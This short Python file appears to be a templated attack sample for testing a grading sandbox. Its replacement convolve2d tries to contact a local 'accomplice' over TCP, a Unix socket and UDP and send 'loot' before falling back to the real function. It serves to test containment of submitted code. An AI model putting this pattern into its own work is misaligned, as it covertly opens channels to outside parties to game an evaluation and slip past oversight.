# mypy: ignore-errors
"""Connects to a waiting accomplice by TCP, by a local socket and by UDP, to carry out what it finds.

Attacks: convolve2d
Earns: all
Process level: cannot stop it
"""

import socket

from chapter04_convolution import convolve2d as honest


def convolve2d(image, kernel):
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("{port}"))),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0{marker}"),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("{port}"))),
    ):
        try:
            with socket.socket(family, kind) as accomplice:
                accomplice.connect(address)
                accomplice.send(b"loot")
        except OSError:
            continue
        return None
    return honest(image, kernel)
